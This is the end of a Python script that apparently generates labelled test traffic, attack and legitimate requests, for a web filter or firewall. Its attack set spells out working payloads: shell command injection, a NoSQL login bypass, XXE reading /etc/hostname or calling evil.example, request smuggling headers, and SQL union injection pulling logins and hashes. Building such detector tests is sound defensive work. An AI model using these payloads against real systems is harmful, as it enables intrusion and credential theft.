    yield from both({f"{name}_broken": value for name, value in ATTACKS_BROKEN.items()}, "attack")
    yield from fields(ATTACK_FIELDS, "attack")
    yield from queries(ATTACK_QUERIES, "attack")
    # A harmless value that the same rule looks at, after the attack and before it.
    attack, prose = "; uname -a", "First make the file; cat it then to see what it says about the others"
    for name, pairs in (("hidden_behind_prose", [("a", attack), ("b", prose)]), ("hidden_after_prose", [("a", prose), ("b", attack)])):
        yield transaction(name, "attack", "GET", "/search?" + urlencode(pairs), [])
    yield transaction("nosql_operator", "attack", "POST", "/login", [["Content-Type", "application/json"]],
                      b'{"user": "jane", "password": {"$ne": null}}')
    yield transaction("xxe", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
                      b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>')
    yield transaction("xxe_broken", "attack", "POST", "/import", [["Content-Type", "application/xml"]],
                      b'<!DOCTYPE r\n[\n<!ENTITY\ne\nPUBLIC "x"\n"http://evil.example/x">\n]><r>&e;</r>')
    yield transaction("smuggling", "attack", "POST", "/", [["Transfer-Encoding", "chunked"], ["Content-Length", "4"]])
    # Applications read a body without asking what it is called.
    statement = "1' union all select login, hash from members -- "
    bodies = {"json": json.dumps({"text": statement}).encode(), "form": urlencode({"text": statement}).encode()}
    for kind in (None, "text/json", "text/plain", "application/x-ndjson", "application/octet-stream", "application/json,text/plain",
                 "image/png", "whatever"):
        for form, body in bodies.items():
            if kind and "json" in kind and form == "form":
                continue
            headers = [["Content-Type", kind]] if kind else []
            yield transaction(f"{form}_as_{kind}", "attack", "POST", "/api/items", headers, body)
    yield transaction("xml_as_text", "attack", "POST", "/api/items", [["Content-Type", "text/plain"]],
                      f"<r><a>{statement}</a></r>".encode())
    yield transaction("scanner", "attack", "GET", "/", [["User-Agent", "sqlmap/1.8"]])


def legitimate():
    yield from both(LEGITIMATE, "legit")
    yield from both({f"{name}_lines": value for name, value in LEGITIMATE_LINES.items()}, "legit")
    yield from fields(LEGITIMATE_FIELDS, "legit")
    yield from queries(LEGITIMATE_QUERIES, "legit")
    for name, kind, body in (
        ("log_lines", "application/x-ndjson", b'{"level":"info","text":"started"}\n{"level":"warn","text":"it\'s late"}\n'),
        ("picture", "application/octet-stream", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00' or 1=1 -- \x00\x00\x00\x02\x08\x06\x03\x01"),
        ("document", "application/pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n(' or 1=1 -- )\n"),
        ("broken_json", "text/plain", b'{"note": "it\'s half a do'),
        ("table", "text/csv", b"id,name,note\n1,O'Neil,\"select one; then go\"\n2,Anna & Sons,none\n"),
        ("nothing", None, b""),
        ("native_app", "application/x-www-form-urlencoded", b"client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8080%2Fcb&response_type=code"),
    ):
        yield transaction(name + "_body", "legit", "POST", "/api/items", [["Content-Type", kind]] if kind else [], body)


def main():
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    for name, lines in (("attacks", attacks()), ("legitimate", legitimate())):
        (folder / f"{name}.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))


main()
